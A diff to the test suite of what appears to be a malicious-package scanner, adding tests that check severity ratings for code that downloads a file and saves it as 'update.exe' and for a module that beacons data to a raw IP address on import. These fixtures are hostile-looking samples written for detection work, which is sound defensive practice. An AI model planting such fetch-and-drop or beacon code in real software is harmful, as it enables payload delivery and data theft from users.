@@ -632,7 +632,47 @@ def test_module_names_of_members() -> None:
 
 
 def test_function_started_in_a_thread_at_import_runs_on_import() -> None:
-    threaded = textwrap.dedent(STEALER_MODULE) + "\nimport threading\nthreading.Thread(target=send).start()\n"
+    threaded = (
+        textwrap.dedent(STEALER_MODULE)
+        + "\nimport threading\nthreading.Thread(target=send).start()\n"
+    )
     assert _exfil_severities({"demo/__init__.py": threaded}) == ["critical"]
     at_exit = textwrap.dedent(STEALER_MODULE) + "\nimport atexit\natexit.register(send)\n"
     assert _exfil_severities({"demo/__init__.py": at_exit}) == ["critical"]
+
+
+def test_dropping_a_downloaded_program_is_suspicious_even_when_only_called() -> None:
+    def drop_severity(name: str) -> list[str]:
+        src = f"""
+            import urllib.request
+
+            def fetch(folder):
+                data = urllib.request.urlopen("https://example.invalid/x").read()
+                with open(folder + "{name}", "wb") as f:
+                    f.write(data)
+        """
+        found = analyze(artifact({"demo/core.py": src})).findings
+        return [f.severity for f in found if f.rule == "intent.drop-payload"]
+
+    assert drop_severity("update.exe") == ["high"]
+    assert drop_severity("cache.json") == ["medium"]  # a downloader saving data: worth knowing
+
+
+def test_bare_ip_contacted_on_import_is_suspicious() -> None:
+    def ip_severity(src: str) -> list[str]:
+        found = analyze(artifact({"demo/__init__.py": src})).findings
+        return [f.severity for f in found if f.rule == "indicator.raw-ip-url"]
+
+    beacon = """
+        import urllib.request
+
+        def report(url, data):
+            urllib.request.urlopen(url, data=data)
+
+        def register():
+            report("http://45.33.32.156:3000/nodes", b"x")
+
+        register()
+    """
+    assert ip_severity(beacon) == ["high"]
+    assert ip_severity(beacon.replace("        register()\n", "")) == ["medium"]  # on request only
